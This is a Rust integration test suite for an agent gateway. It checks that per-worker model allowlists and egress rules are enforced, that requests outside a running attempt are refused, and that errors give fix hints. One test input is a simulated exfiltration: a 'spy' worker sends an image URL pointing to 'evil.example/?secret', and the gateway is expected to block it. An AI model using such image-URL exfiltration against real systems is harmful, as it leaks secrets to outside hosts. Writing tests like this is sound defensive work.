//! What a request to the model may contain: as the real CLI, and as an agent's own program meets it.

use std::io::{Read as _, Write as _};
use std::os::unix::net::UnixStream;

use serde_json::{Value, json};
use supervisor::api::types::TaskStatus;

use crate::world::{World, text};

crate::in_both_runtimes!(
    cli_whose_model_is_not_on_its_list_fails_once_and_says_which_line_to_write
);

fn cli_whose_model_is_not_on_its_list_fails_once_and_says_which_line_to_write(world: World) {
    world.write(
        "workspaces/nora/worker.toml",
        "description = \"Reads.\"\nmodel = \"claude-sonnet-5-5\"\nmodels = [\"claude-haiku-*\"]\n\
         tools = [\"Read\"]\n",
    );
    let world = world.start("");
    world.add("nora", "read", "Read it", &["--retries", "2"]);
    assert_eq!(world.ended(&["read"]), [TaskStatus::Failed]);

    let result = world.result("nora", "read");
    let error = &result["error"];
    let cure = "write `models = [\"claude-haiku-*\", \"claude-sonnet-5-5\"]` in workspaces/nora/worker.toml";
    assert_eq!(error["kind"], "invalid", "{error}");
    let message = error["message"].as_str().unwrap();
    assert!(
        message.starts_with("the gateway refused a request: the model `claude-sonnet-5-5`"),
        "{error}"
    );
    assert!(error["hint"].as_str().unwrap().contains(cure), "{error}");
    assert_eq!(result["attempt"], 1, "to try again would be to be refused again");
    // It is no fault of the key: others of the worker may go on.
    assert!(world.status().workers.iter().all(|worker| worker.paused.is_none()));
    assert!(world.requests().is_empty(), "nothing went upstream");

    let refused = &world.json(&["usage", "--json"])["refused"][0];
    assert_eq!(refused["task_id"], "read", "{refused}");
    let shown = world.wait_ref("the try is noted", |world| {
        let shown = text(&world.expect(0, &["egress", "read"]).stdout);
        shown.contains("claude-sonnet-5-5").then_some(shown)
    });
    assert!(shown.contains("refused: the model `claude-sonnet-5-5` is not among"), "{shown}");
    // The CLI stops at the first no.
    let tries = lines(&world, "read");
    assert_eq!(tries.iter().filter(|line| line["path"] == "/v1/messages").count(), 1, "{tries:#?}");
}

/// Returns what is noted of a task.
fn lines(world: &World, id: &str) -> Vec<Value> {
    let output = text(&world.expect(0, &["egress", id, "--json"]).stdout);
    output.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

/// Sends a request by a replica's socket, as a program in its container could, and returns the answer.
fn post(world: &World, replica: &str, path: &str, body: &Value) -> String {
    let socket = world.sockets().join(format!("gateway/{replica}/gateway.sock"));
    let mut stream = UnixStream::connect(socket).unwrap();
    let body = body.to_string();
    let head = format!(
        "POST {path} HTTP/1.1\r\nhost: a\r\nconnection: close\r\ncontent-length: {}\r\n\r\n",
        body.len()
    );
    stream.write_all(format!("{head}{body}").as_bytes()).unwrap();
    let mut answer = Vec::new();
    stream.read_to_end(&mut answer).unwrap();
    text(&answer)
}

#[test]
fn process_requests_of_a_program_go_by_its_list_and_only_while_its_attempt_runs() {
    const TEST: &str =
        "process_requests_of_a_program_go_by_its_list_and_only_while_its_attempt_runs";
    let Some(world) = World::of_processes(TEST) else { return };
    let command =
        "command = [\"sh\", \"-c\", \"while [ ! -e end ]; do sleep 0.05; done; echo done\"]";
    for (worker, models) in [("spy", "models = [\"claude-haiku-*\"]\n"), ("mute", "")] {
        let config =
            format!("description = \"Asks.\"\n{command}\n{models}egress = [\"files.example\"]\n");
        world.write(&format!("workspaces/{worker}/worker.toml"), &config);
    }
    let world = world.start("");
    world.add("spy", "ask", "Ask", &[]);
    world.add("mute", "hush", "Ask", &[]);
    let running = |world: &World| {
        let is = |id| world.task(id).status == TaskStatus::Running;
        (is("ask") && is("hush")).then_some(())
    };
    world.wait_ref("both run", running);
    let body = |model: &str, content: Value| json!({"model": model, "max_tokens": 9, "messages": [{"role": "user", "content": content}]});
    let image = |url: &str| json!([{"type": "image", "source": {"type": "url", "url": url}}]);
    let (messages, count) = ("/v1/messages", "/v1/messages/count_tokens");
    let fine = body("claude-haiku-5-5", json!("hello"));

    // An attempt is assigned before its program runs.
    let answer = world.wait_ref("the model answers", |world| {
        let answer = post(world, "spy-1", messages, &fine);
        answer.starts_with("HTTP/1.1 200 ").then_some(answer)
    });
    assert!(answer.contains("claude-haiku-5-5"), "{answer}");
    for path in [messages, count] {
        for (replica, body, cure) in [
            (
                "spy-1",
                body("claude-opus-5-5", json!("x")),
                "`models = [\"claude-haiku-*\", \"claude-opus-5-5\"]`",
            ),
            (
                "spy-1",
                body("claude-haiku-5-5", image("https://evil.example/?secret")),
                "add \"evil.example\" to `egress`",
            ),
            ("mute-1", fine.clone(), "`models = [\"claude-haiku-5-5\"]`"),
        ] {
            let answer = post(&world, replica, path, &body);
            assert!(answer.starts_with("HTTP/1.1 403 "), "{path} {body}: {answer}");
            assert!(answer.replace("\\\"", "\"").contains(cure), "{path} {body}: {answer}");
        }
    }
    world.write("workspaces/spy/end", "");
    world.write("workspaces/mute/end", "");
    assert_eq!(world.ended(&["ask", "hush"]), [TaskStatus::Complete; 2]);
    for path in [messages, count] {
        let answer = post(&world, "spy-1", path, &fine);
        assert!(answer.contains("no attempt runs here"), "{answer}");
    }

    let noted = world.wait_ref("all is noted", |world| {
        let lines = lines(world, "ask");
        (lines.iter().filter(|line| line["verdict"] == "refused").count() >= 4).then_some(lines)
    });
    let text = json!(noted).to_string();
    assert!(!text.contains("secret"), "{text}");
    let models: Vec<_> = noted
        .iter()
        .filter(|line| line["verdict"] == "allowed")
        .map(|line| &line["model"])
        .collect();
    assert_eq!(models, ["claude-haiku-5-5"]);
    assert_eq!(lines(&world, "hush").len(), 2);
    assert_eq!(world.requests().len(), 1);

    for (host, worker, code, said) in [
        ("https://files.example/x", "spy", 0, "yes, by the rule \"files.example\""),
        (
            "files.example:8443",
            "spy",
            1,
            "add \"files.example:8443\" to `egress` in workspaces/spy/worker.toml",
        ),
        (
            "evil.example",
            "spy",
            1,
            "add \"evil.example\" to `egress` in workspaces/spy/worker.toml",
        ),
        ("127.0.0.1", "spy", 1, "IP address"),
        ("evil.example", "nobody", 3, ""),
    ] {
        let output = world.expect(code, &["doctor", "--would-allow", host, worker]);
        let shown = crate::world::text(&output.stdout);
        assert!(shown.contains(said), "{host}: {shown}");
    }
}
